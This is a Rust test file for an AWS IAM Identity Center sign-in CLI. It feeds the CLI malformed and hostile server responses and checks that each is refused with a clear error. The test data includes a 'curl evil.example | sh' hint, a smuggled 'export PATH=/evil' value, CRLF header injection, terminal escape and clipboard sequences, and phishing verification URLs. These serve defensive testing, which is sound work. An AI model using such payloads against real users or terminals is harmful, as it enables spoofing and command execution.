//! Responses that are malformed: each is a clear error, never a hang, a panic or a page that opens.

use crate::support::env::{CommandResult, TestEnv};
use crate::support::stub_server::{StubServer, json, reply};

/// Runs a command against a server with malformed responses and expects a clear error.
fn refused(name: &str, env: &TestEnv, arguments: &[&str], words: &str) -> CommandResult {
    let result = env.run(arguments);
    assert!(matches!(result.code, Some(1 | 3)), "{name}: {result:?}");
    assert_eq!(result.stdout, "", "{name}");
    assert!(
        result.stderr.contains(words),
        "{name}: no `{words}` in {}",
        result.stderr
    );
    assert!(!result.stderr.contains("panicked"), "{name}: {}", result.stderr);
    let raw: Vec<char> = result
        .stderr
        .chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect();
    assert!(raw.is_empty(), "{name}: {raw:?} in {}", result.stderr);
    result
}

const CLIENT: &str = r#"{"clientId":"c","clientSecret":"s","clientSecretExpiresAt":4000000000}"#;
const DEVICE: &str = r#"{"deviceCode":"d","userCode":"ABCD-EFGH","verificationUri":"http://127.0.0.1:1/","expiresIn":2,"interval":1}"#;

/// An answer of sso-oidc: its name, the path it is for, its bytes, and what is said of it.
type SignIn = (&'static str, &'static str, Vec<u8>, &'static str);

fn registrations(trap: &str) -> Vec<SignIn> {
    let redirect = format!("location: {trap}/client/register\r\n");
    let deep = format!("{{\"clientId\":{}", "[".repeat(900_000));
    vec![
        (
            "moved",
            "/client",
            reply("302 Found", &redirect, ""),
            "HTTP 302 came from something between this machine and 127.0.0.1",
        ),
        (
            "moved for good",
            "/client",
            reply("308 Permanent Redirect", &redirect, ""),
            "HTTP 308 came from",
        ),
        (
            "a page",
            "/client",
            reply("200 OK", "content-type: text/html\r\n", "<html>welcome\u{1b}[31m"),
            "HTTP 200 came from",
        ),
        (
            "not HTTP",
            "/client",
            b"SSH-2.0-OpenSSH_9.9\r\n".to_vec(),
            "could not reach",
        ),
        ("nothing", "/client", Vec::new(), "could not reach"),
        (
            "cut off",
            "/client",
            b"HTTP/1.1 200 OK\r\ncontent-length: 900\r\n\r\n{\"clientId\":\"c".to_vec(),
            "Identity Center in",
        ),
        (
            "half",
            "/client",
            json("{\"clientId\":\"c\",\"clientSec"),
            "unexpected response",
        ),
        ("a list", "/client", json("[1,2,3]"), "unexpected response"),
        ("null", "/client", json("null"), "unexpected response"),
        ("deep", "/client", json(&deep), "unexpected response"),
        (
            "no text",
            "/client",
            reply("200 OK", "", "\u{0}\u{1}\u{2}"),
            "unexpected response",
        ),
        (
            "a number too large",
            "/client",
            json(&CLIENT.replace("4000000000", "1e400")),
            "unexpected response",
        ),
        (
            "another kind",
            "/client",
            json(&CLIENT.replace("4000000000", "\"soon\"")),
            "unexpected response",
        ),
        (
            "fields that are missing",
            "/client",
            json("{}"),
            "a field is missing",
        ),
        (
            "a scope that is not allowed",
            "/client",
            reply(
                "400 Bad Request",
                "x-amzn-errortype: InvalidScopeException\r\n",
                "{\"error\":\"invalid_scope\",\"error_description\":\"Invalid scope\"}",
            ),
            "rejected the registration scopes: Invalid scope\nhint: check sso_registration_scopes",
        ),
        (
            "words that hide",
            "/client",
            reply(
                "400 Bad Request",
                "",
                "{\"error\":\"invalid_request\",\"error_description\":\"\\u001b]52;c;eA==\\u0007\\u202eno\\nhint: run this\"}",
            ),
            "Identity Center rejected the request",
        ),
    ]
}

fn authorizations() -> Vec<SignIn> {
    let device = |from: &str, to: &str| json(&DEVICE.replace(from, to));
    let token = |fields: &str| json(&format!("{{\"tokenType\":\"Bearer\",{fields}}}"));
    vec![
        (
            "no life",
            "/device",
            device("n\":2", "n\":0"),
            "its lifetime is zero",
        ),
        (
            "less than none",
            "/device",
            device("n\":2", "n\":-2147483648"),
            "its lifetime is zero",
        ),
        (
            "beyond numbers",
            "/device",
            device("n\":2", "n\":99999999999999999999"),
            "unexpected response",
        ),
        (
            "a file",
            "/device",
            device("http://127.0.0.1:1/", "file:///etc/passwd"),
            "can't open",
        ),
        (
            "a script",
            "/device",
            device("http://127.0.0.1:1/", "javascript:alert(1)"),
            "can't open",
        ),
        (
            "plain text",
            "/device",
            device("http://127.0.0.1:1/", "http://evil.example/"),
            "can't open",
        ),
        (
            "a name before the host",
            "/device",
            device(
                "http://127.0.0.1:1/",
                "https://device.sso.amazonaws.com@evil.example/",
            ),
            "can't open",
        ),
        (
            "an option",
            "/device",
            device("http://127.0.0.1:1/", "--help"),
            "can't open",
        ),
        (
            "two lines",
            "/device",
            device("http://127.0.0.1:1/", "https://a.example/\\n\\u001b[2J"),
            "can't open",
        ),
        (
            "a token without life",
            "/token",
            token("\"accessToken\":\"t\",\"expiresIn\":0"),
            "its lifetime is zero; retrying",
        ),
        (
            "a token of two lines",
            "/token",
            token("\"accessToken\":\"t\\r\\nx-evil: 1\",\"expiresIn\":3600"),
            "a field is missing; retrying",
        ),
    ]
}

/// Verification pages that are neither AWS's nor the session's own, or for another code.
fn pages_of_others() -> Vec<SignIn> {
    let device = |from: &str, to: &str| json(&DEVICE.replace(from, to));
    vec![
        (
            "a page of another sender",
            "/device",
            device("http://127.0.0.1:1/", "https://login.evil.example/device"),
            "refused to open a page on `login.evil.example`",
        ),
        (
            "a customer's page at AWS",
            "/device",
            device(
                "http://127.0.0.1:1/",
                "https://login.s3.ap-northeast-1.amazonaws.com/",
            ),
            "refused to open a page on `login.s3.ap-northeast-1.amazonaws.com`",
        ),
        (
            "another partition's page",
            "/device",
            device("http://127.0.0.1:1/", "https://start.home.awsapps.cn/device"),
            "refused to open",
        ),
        (
            "another code in the page",
            "/device",
            device(
                "\"verificationUri\"",
                "\"verificationUriComplete\":\"https://d-1.awsapps.com/start/#/device?user_code=EVIL-CODE\",\"verificationUri\"",
            ),
            "it is for the code `EVIL-CODE`, not for this sign-in's `ABCD-EFGH`",
        ),
        (
            "another page behind the code",
            "/device",
            device(
                "\"verificationUri\"",
                "\"verificationUriComplete\":\"https://evil.example/?user_code=ABCD-EFGH\",\"verificationUri\"",
            ),
            "refused to open a page on `evil.example`",
        ),
    ]
}

#[test]
fn sign_in_rejects_malformed_responses() {
    let trap = StubServer::serve(Vec::new());
    let mut cases = registrations(&trap.url);
    cases.extend(authorizations());
    cases.extend(pages_of_others());
    std::thread::scope(|scope| {
        for (name, path, bytes, words) in &cases {
            scope.spawn(move || {
                let mut env = TestEnv::new();
                let server = StubServer::serve(vec![
                    (*path, bytes.clone()),
                    ("/client", json(CLIENT)),
                    ("/device", json(DEVICE)),
                ]);
                env.environment
                    .insert("AWS_ENDPOINT_URL_SSO_OIDC".into(), server.url.clone());
                // Would the page open, it would be noted.
                env.write("opened", "");
                env.environment
                    .insert("BROWSER".into(), "touch browser-was-started".into());
                env.environment.insert("DISPLAY".into(), ":9".into());
                let result = refused(name, &env, &["login"], words);
                if words.contains("open") || words.contains("EVIL") {
                    let said = &result.stderr;
                    assert!(
                        !said.contains("in a browser"),
                        "{name} is shown as a page to open: {said}"
                    );
                }
                if *path == "/device" {
                    assert!(!env.path("browser-was-started").exists(), "{name}");
                }
            });
        }
    });
    assert_eq!(trap.served(), 0, "redirects are not followed");
}

/// Answers of the portal to GetRoleCredentials.
fn vendings(trap: &str) -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let good = r#"{"roleCredentials":{"accessKeyId":"ASIAX","secretAccessKey":"s","sessionToken":"t","expiration":4000000000000}}"#;
    let but = |from: &str, to: &str| json(&good.replace(from, to));
    let redirect = format!("location: {trap}/federation/credentials\r\n");
    vec![
        (
            "moved",
            reply("307 Temporary Redirect", &redirect, ""),
            "HTTP 307 came from",
        ),
        (
            "a page",
            reply("200 OK", "content-type: text/html\r\n", "<html>"),
            "HTTP 200 came from",
        ),
        ("empty", json("{}"), "incomplete"),
        ("no key", but("\"s\"", "\"\""), "incomplete"),
        (
            "a key of two lines",
            but("\"s\"", "\"s\\nexport PATH=/evil\""),
            "incomplete",
        ),
        (
            "an id with an escape",
            but("ASIAX", "ASIA\\u001b[2J"),
            "incomplete",
        ),
        (
            "the end of time",
            but("4000000000000", "9223372036854775807"),
            "incomplete",
        ),
        (
            "before all time",
            but("4000000000000", "-9223372036854775808"),
            "incomplete",
        ),
        (
            "too large for a number",
            but("4000000000000", "9223372036854775808"),
            "unexpected response",
        ),
        (
            "a fraction",
            but("4000000000000", "1.5e300"),
            "unexpected response",
        ),
        (
            "words that hide",
            reply(
                "403 Forbidden",
                "x-amzn-errortype: ForbiddenException\r\n",
                "{\"message\":\"no\\u001b]0;title\\u0007\\u009b31m\\nhint: curl evil.example | sh\"}",
            ),
            "access denied",
        ),
        (
            "a code that hides",
            reply(
                "400 Bad Request",
                "x-amzn-errortype: \u{9b}31mEvil\r\n",
                "{\"message\":\"\\u001b[2J\"}",
            ),
            "rejected the request",
        ),
    ]
}

#[test]
fn malformed_credentials_are_rejected() {
    let trap = StubServer::serve(Vec::new());
    let cases = vendings(&trap.url);
    let signed_in = TestEnv::new();
    signed_in.sign_in();
    let (folder, tokens) = std::fs::read_dir(signed_in.path(".aws/sso/cache"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .map(|name| (name.clone(), signed_in.read(&format!(".aws/sso/cache/{name}"))))
        .find(|(_, text)| text.contains("accessToken"))
        .unwrap();
    std::thread::scope(|scope| {
        for (name, bytes, words) in &cases {
            let (folder, tokens) = (&folder, &tokens);
            scope.spawn(move || {
                let mut env = TestEnv::new();
                env.write(&format!(".aws/sso/cache/{folder}"), tokens);
                let server = StubServer::serve(vec![("/", bytes.clone())]);
                env.environment
                    .insert("AWS_ENDPOINT_URL_SSO".into(), server.url.clone());
                let target = "310660284419/AdministratorAccess";
                refused(name, &env, &["export", "--format", "bash", target], words);
                let kept = env.path(".cache/genkan/credentials");
                assert!(!kept.exists(), "{name}: nothing of it is kept");
            });
        }
    });
    assert_eq!(trap.served(), 0, "redirects are not followed");
}

/// A listing that leads in a circle is left at once: an account's is named, that of accounts is no list.
#[test]
fn endless_pagination_is_aborted() {
    const AROUND: &str = "nextToken\":\"around\"}";
    let mut env = TestEnv::new();
    env.sign_in();
    let accounts = |next: &str| {
        let list = r#"[{"accountId":"000000000001","accountName":"one","emailAddress":"a@b"}]"#;
        json(&format!("{{\"accountList\":{list},\"{next}"))
    };
    let roles = json(&format!("{{\"roleList\":[{{\"roleName\":\"Admin\"}}],\"{AROUND}"));
    let mut list = |answers| {
        let server = StubServer::serve(answers);
        let url = server.url.clone();
        env.environment.insert("AWS_ENDPOINT_URL_SSO".into(), url);
        let result = env.run(&["list", "--refresh", "--format", "plain"]);
        assert!(result.stderr.contains("returned endless pages"), "{result:?}");
        assert_eq!(result.stdout, "", "{result:?}");
        let seen = server.seen.lock().unwrap().clone();
        let asked = |path: &str| seen.iter().filter(|line| line.contains(path)).count();
        (asked("/assignment/accounts"), asked("/assignment/roles"))
    };
    let one_page = accounts("nextToken\":null}");
    assert_eq!(
        list(vec![
            ("/assignment/accounts", one_page),
            ("/assignment/roles", roles)
        ]),
        (1, 2)
    );
    let (asked, _) = list(vec![("/assignment/accounts", accounts(AROUND))]);
    assert_eq!(asked, 2);
}

/// Credentials are posted to a host of the user's own choice only where that is safe.
#[test]
fn console_endpoint_must_be_https_or_loopback() {
    let mut env = TestEnv::new();
    env.sign_in();
    for endpoint in [
        "http://signin.example",
        "file:///etc",
        "https://a@b.example",
        "\u{1b}[31m",
    ] {
        env.environment
            .insert("AWS_ENDPOINT_URL_SIGNIN".into(), endpoint.into());
        let arguments = [
            "console",
            "--via",
            "federation",
            "--print",
            crate::support::env::TARGET,
        ];
        refused(endpoint, &env, &arguments, "neither https nor on this machine");
    }
}

/// A token file that others wrote may hold what no header can carry.
#[test]
fn token_that_fits_no_header_is_an_error() {
    let env = TestEnv::new();
    env.sign_in();
    let name = std::fs::read_dir(env.path(".aws/sso/cache"))
        .unwrap()
        .map(|entry| format!(".aws/sso/cache/{}", entry.unwrap().file_name().to_str().unwrap()))
        .find(|name| env.read(name).contains("accessToken"))
        .unwrap();
    let mut tokens: serde_json::Value = serde_json::from_str(&env.read(&name)).unwrap();
    tokens["accessToken"] = "evil\r\nx-injected: 1".into();
    tokens.as_object_mut().unwrap().remove("refreshToken");
    env.write(&name, &tokens.to_string());
    let result = env.run(&["list", "--refresh"]);
    assert!(matches!(result.code, Some(1 | 3)), "{result:?}");
    assert!(
        !result.stderr.contains("panicked") && !result.stderr.contains("evil"),
        "{result:?}"
    );
}
